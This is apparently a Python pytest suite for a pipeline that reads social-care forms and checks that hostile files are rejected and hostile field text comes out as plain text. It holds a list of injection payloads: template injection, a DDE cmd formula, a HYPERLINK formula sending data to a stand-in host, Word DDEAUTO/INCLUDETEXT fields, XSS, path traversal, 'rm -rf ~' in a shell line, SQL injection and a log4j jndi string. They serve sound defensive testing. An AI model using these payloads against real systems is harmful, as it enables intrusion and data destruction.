"""Files that hurt, and the same contents inside otherwise valid forms: given back, or plain text in every document."""

from __future__ import annotations

import io
import json
import random
import time
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from docx import Document
from lxml import etree

from pipeline.errors import UnreadableFile
from pipeline.intake.worker import Workers
from pipeline.outgoing.templates import Template
from pipeline.publish import Office
from pipeline.results import Result
from pipeline.rules.form import WordForm
from tests.fill_word import fill
from tests.matrix_forms import LAYOUTS
from tests.offices import EXAMPLES, close, office, tree, work
from tests.referral_forms import ReferralDocument, packed, w

OURS = EXAMPLES.parent / "ours" / "meeting-record.docx"
HOSTILE = Path(__file__).parent / "hostile"
FILES = sorted(p for p in HOSTILE.glob("*/*"))
MADE = {entry["path"]: entry for entry in json.loads((HOSTILE / "made.json").read_text("utf-8"))}
CANARY = "XXE-CANARY-7f3a9c"
SECONDS = 15


def given_back(workers: Workers, path: Path) -> str:
    """The code of the reason; "" where the file was read."""
    begun = time.monotonic()
    try:
        workers.read(path, path.name)
    except UnreadableFile as e:
        assert e.code and e.what.endswith(".") and e.remedy.endswith(".")
        assert CANARY not in e.what + e.remedy
        return e.code
    finally:
        assert time.monotonic() - begun < SECONDS
    return ""


@pytest.fixture(scope="module")
def workers() -> Iterator[Workers]:
    with Workers(LAYOUTS) as made:
        yield made


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_a_file_that_hurts_is_given_back_in_time(workers: Workers, path: Path) -> None:
    assert given_back(workers, path)


def test_a_form_is_read_between_files_that_hurt(workers: Workers) -> None:
    good = sorted(p for p in EXAMPLES.iterdir() if p.suffix != ".json")
    for n, path in enumerate(FILES):
        given_back(workers, path)
        assert workers.read(good[n % len(good)], good[n % len(good)].name)


def test_every_made_file_says_what_is_expected() -> None:
    assert {p.name for p in FILES if p.parent.name == "made"} == set(MADE)


# The same contents inside valid forms

# What each says must stand in the documents letter for letter.
TEXTS = {
    "sum in a template": "{{ 7*7 }}",
    "classes in a template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "endless template": "{% for x in range(10**12) %}x{% endfor %}",
    "template tags of Word": "{%p if 1 %} {%tr endfor %} {{r name }} {%- raw -%}",
    "end of raw": "{% endraw %}{% raw %}",
    "comment in a template": "{# hidden",
    "open braces": "so {{ what",
    "command in a formula": "=cmd|'/c calc'!A1",
    "link in a formula": '=HYPERLINK("http://hostile.invalid/?"&A1,"x")',
    "sums": "+1+1 -1-1 @SUM(1)",
    "formula after a tab": "\t=1+1",
    "markup": "Smith & <Co> </w:t></w:r></w:p><w:p/> ]]> <!-- <?x?> &lt; &amp;amp; &#1;",
    "fields of Word": '{ INCLUDETEXT "C:\\\\secret.docx" } DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
    "script": "<script>alert(1)</script> javascript:alert(1)",
    "header lines": "Re: x\r\nBcc: all@hostile.invalid",
    "path": "../../../../etc/passwd",
    "Windows path": "..\\..\\C:\\CON\\aux.txt:stream",
    "shell": "$(touch /tmp/x); `id` | rm -rf ~ %PATH% && !!",
    "table": "Robert'); DROP TABLE returns;--",
    "format": "%s%s%n {0.__class__} ${jndi:ldap://hostile.invalid}",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069",
    "no width": "\u200bCo\u200dun\ufeffcil\u2060",
    "look-alikes": "C\u043euncil T\u0430\u0445",
    "stacked": "Z" + "\u0301\u0489" * 500,
    "beyond the plane": "\U0001d56e\U0001d594 \U000208b7\u91ce\u5bb6 \U0001f468\u200d\U0001f469",
    "private use": "\uf0b7 bullet \ue000",
    "no characters": "none \ufdd0 \U0001fffe \x85\x9f",
    "line ends": "a\u2028b\u2029c\u0085d",
}
HUGE = "".join(random.Random(4).choices("abcdefghijklmnopqrstuvwxyz .", k=1_000_000))


def matrix_saying(texts: Sequence[str], example: str = "matrix-none.xlsx") -> bytes:
    """The matrix with these texts as its name, its author and beside the answers; ID and dates stay."""
    book = openpyxl.load_workbook(EXAMPLES / example)
    sheet = book.active
    assert sheet is not None
    for n, place in enumerate(("B2", "B4", "A40", "B41", "Q9")):
        sheet[place] = f"PLACE-{n}"
    file = io.BytesIO()
    book.save(file)
    # openpyxl makes formulas of some texts, and cuts long ones.
    with zipfile.ZipFile(file) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet_part = "xl/worksheets/sheet1.xml"
    for n in range(5):
        text = escape(texts[n % len(texts)]).replace("\r", "&#13;")
        said = f"<t>PLACE-{n}</t>".encode()
        assert said in parts[sheet_part]
        parts[sheet_part] = parts[sheet_part].replace(said, f'<t xml:space="preserve">{text}</t>'.encode())
    return packed(parts)


def referral_saying(texts: Sequence[str]) -> bytes:
    """The referral with these texts as its answers, one after the other; ID and dates stay."""
    source = EXAMPLES / "referral-controls.docx"
    (form,) = _read(source)
    answers = [a.text for name, a in form.fields.items() if not a.date and not _stays(name, a.text)]
    cells = [text for rows in form.tables.values() for row in rows for text in row.values() if not _stays("", text)]
    lines = {line for text in (*answers, *cells) for line in text.split("\n") if line}
    document = ReferralDocument(source)
    n = 0
    for content in document.root.iter(w("sdtContent")):
        for paragraph in content.iter(w("p"), w("r")):
            said = list(paragraph.iter(w("t")))
            if said and "".join(t.text or "" for t in said) in lines:
                said[0].text = texts[n % len(texts)]
                said[0].set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
                for t in said[1:]:
                    t.text = ""
                n += 1
    assert n > 30
    return document.save()


MEMBER = {"Name and role": "PLACE", "Attended?": "Yes", "Update from the agency": "PLACE"}
# What people may write into a meeting record; choices, days, the name and the ID stay.
BOXES = (
    "A. The meeting/Chair",
    "D. Who is responsible/Lead professional",
    "D. Who is responsible/Allocated worker",
    "D. Who is responsible/Advocate",
    "F. Decision/Reason, where the decision differs from the matrix",
    "I. Disagreement and immediate issues/Disagreements and challenge",
    "J. Views/Young person's views",
    "J. Views/Views overridden, and why",
    "P. Next meeting/Place of next meeting",
    "Q. Sign-off/Record completed by",
)


def record_saying(texts: Sequence[str], members: int = 2, agencies: bool = False) -> bytes:
    """The record of a panel that raises the flag, with these texts wherever somebody may write.

    ``agencies``: for the names of agencies too, which stand in the names of the letters to them.
    """
    member = {**MEMBER, "Agency": "PLACE"} if agencies else MEMBER
    days = ("A. The meeting/Date of meeting", "Q. Sign-off/Date completed")
    form = fill(
        OURS.read_bytes(),
        dict.fromkeys(BOXES, "PLACE") | dict.fromkeys(days, "10/11/2026"),
        {
            "C. Attendance": [member] * members,
            "G. Actions agreed before": [{"What has changed for the young person": "PLACE"}],
            "H. New actions": [{"New action": "PLACE", "Owner and agency": "PLACE", "By when": "PLACE"}],
            "O. Services to be told of the flag that were not at the meeting": [
                {"Service to be told": "PLACE" if agencies else "Example Service", "Address": "PLACE"}
            ],
        },
    )
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    root = etree.fromstring(parts["word/document.xml"])
    places = [t for t in root.iter(w("t")) if t.text == "PLACE"]
    assert len(places) == len(BOXES) + 5 + 2 * members + (1 + members if agencies else 0)
    for n, place in enumerate(places):
        place.text = texts[n % len(texts)]
        place.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
    parts["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    return packed(parts)


def _read(source: Path) -> tuple[WordForm]:
    from pipeline.intake.word.word_form import read_word_form

    form = read_word_form(source.read_bytes(), LAYOUTS.word_forms)
    assert form is not None
    return (form,)


def _stays(name: str, text: str) -> bool:
    return "ate" in name or "ID" in name or not text or text.replace("/", "").isdigit() or len(text) < 3


def work_off(desk: Office, content: bytes, name: str) -> Result:
    """Work a form off in time; whatever became of it, every document is whole and no path tells of it."""
    path = desk.settings.inbox / name
    path.write_bytes(content)
    begun = time.monotonic()
    [result] = work(path, desk)
    assert time.monotonic() - begun < SECONDS
    assert result.outcome in ("accepted", "returned")
    for file, data in (*tree(desk.settings.outbox).items(), *tree(desk.settings.inbox).items()):
        assert file.isascii() and ".." not in file and "hostile" not in file
        if file.endswith(".docx") and not file.endswith(name):
            sound(data)
    return result


def sound(document: bytes) -> None:
    """The document is whole, names nothing outside of itself, and has no field but the number of its page."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        assert archive.testzip() is None
        for part in archive.namelist():
            if part.endswith((".xml", ".rels")):
                root = etree.fromstring(archive.read(part))
                assert not any("hostile" in link.get("Target", "") for link in root.iter("{*}Relationship"))
                fields = [*root.iter(w("instrText")), *root.iter(w("fldSimple"))]
                assert {(field.text or field.get(w("instr"), "")).strip() for field in fields} <= {"PAGE", "NUMPAGES"}


def words(desk: Office) -> str:
    """All that the documents in the outbox say, a line break for each paragraph."""
    said = []
    for file, data in tree(desk.settings.outbox).items():
        if file.endswith(".docx"):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                root = etree.fromstring(archive.read("word/document.xml"))
            for paragraph in root.iter(w("p")):
                said.append(
                    "".join(
                        "\n" if el.tag == w("br") else "\t" if el.tag == w("tab") else el.text or ""
                        for el in paragraph.iter(w("t"), w("br"), w("tab"))
                    )
                )
    return "\n".join(said)


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Office]:
    made = office(tmp_path)
    yield made
    close(made)


def plain(text: str) -> str:
    """A text without white space and invisible characters, which may be changed on the way."""
    return text.translate({ord(c): None for c in set(text) if c.isspace() or not c.isprintable()})


FORMS = pytest.mark.parametrize(
    ("name", "saying"), [("form.xlsx", matrix_saying), ("form.docx", referral_saying), ("record.docx", record_saying)]
)
Saying = Callable[[Sequence[str]], bytes]


@FORMS
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_hostile_text_in_a_form_is_plain_text_in_its_documents(
    desk: Office, name: str, saying: Saying, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")
    assert work_off(desk, saying([text]), name).outcome == "accepted"
    assert plain(text) in plain(words(desk))
    told = [data for file, data in tree(desk.settings.inbox).items() if file.endswith(".txt")]
    assert told and all(text.encode() not in data for data in told)
    assert text.strip() not in caplog.text


def test_hostile_texts_all_together_make_a_whole_pack(desk: Office) -> None:
    result = work_off(desk, matrix_saying([*TEXTS.values()], "matrix-must.xlsx"), "form.xlsx")
    assert (result.outcome, len(result.documents) > 5) == ("accepted", True)


@pytest.mark.parametrize("start", range(0, len(TEXTS), 5))
def test_each_hostile_text_may_stand_in_any_field(desk: Office, start: int) -> None:
    texts = [*TEXTS.values()]
    assert work_off(desk, referral_saying(texts[start:] + texts[:start]), "form.docx").outcome == "accepted"


def test_control_characters_that_excel_spells_out_reach_no_document(desk: Office) -> None:
    text = "_x0000_a_x0001_b_x0008_c_x000B_d_xFFFE_e_xD800_f_x005F_x0041_g"
    result = work_off(desk, matrix_saying([text]), "form.xlsx")
    assert result.outcome == "accepted"
    assert "g" in words(desk)


@FORMS
def test_long_texts_everywhere_are_plain_text(desk: Office, name: str, saying: Saying) -> None:
    assert work_off(desk, saying([HUGE[:100_000]]), name).outcome == "accepted"
    assert HUGE[:100_000].strip() in words(desk)


@FORMS
@pytest.mark.parametrize(
    "text", [HUGE, "x" * 1_000_000, "x " * 500_000, "\n" * 1_000_000], ids=["letters", "x", "words", "lines"]
)
def test_a_megabyte_in_every_field_is_plain_text_or_goes_back(
    desk: Office, name: str, saying: Saying, text: str
) -> None:
    result = work_off(desk, saying([text]), name)
    if result.outcome == "accepted":
        assert plain(text) in plain(words(desk))


@pytest.mark.parametrize("text", ["a line\n", "a tab\t", "both\n\t"], ids=["lines", "tabs", "both"])
def test_a_text_of_very_many_lines_does_not_keep_the_others_waiting(tmp_path: Path, text: str) -> None:
    word = Document()
    word.add_paragraph("{{ value }}")
    word.save(tmp_path / "Letter.docx")
    begun = time.monotonic()
    letter = Template(tmp_path / "Letter.docx").render({"value": text * 200_000})
    assert time.monotonic() - begun < SECONDS
    assert len(letter) > 1000


def test_each_hostile_text_may_stand_in_any_field_of_a_meeting_record(desk: Office) -> None:
    result = work_off(desk, record_saying([*TEXTS.values()]), "record.docx")
    assert (result.outcome, "Flag letter - " in "".join(tree(desk.settings.outbox))) == ("accepted", True)


@pytest.mark.parametrize(
    "text", [*TEXTS.values(), "a" + "\U0001f469" * 300, "x" * 300], ids=[*TEXTS.keys(), "astral", "long"]
)
def test_an_agency_may_be_called_anything_and_its_letters_can_be_opened_everywhere(desk: Office, text: str) -> None:
    path = desk.settings.inbox / "record.docx"
    path.write_bytes(record_saying([text], agencies=True))
    [result] = work(path, desk)
    assert result.outcome == "accepted"
    letters = [file for file in tree(desk.settings.outbox) if "/Flag letter - " in file]
    assert letters
    for file in tree(desk.settings.outbox):
        case, pack, name = file.split("/")
        assert (case, pack) == ("CF104240", "2026-11-10 Meeting record")
        assert name.isprintable() and not set(name) & set('<>:"\\|?*') and len(file) <= 130
        assert len(name.encode()) <= 255 and not name.rpartition(".")[0].endswith((".", " "))
        if name.endswith(".docx"):
            sound((desk.settings.outbox / file).read_bytes())


def test_a_meeting_record_of_five_thousand_rows_is_worked_off(desk: Office) -> None:
    assert work_off(desk, record_saying(["Example Agency"], members=5_000), "record.docx").outcome == "accepted"
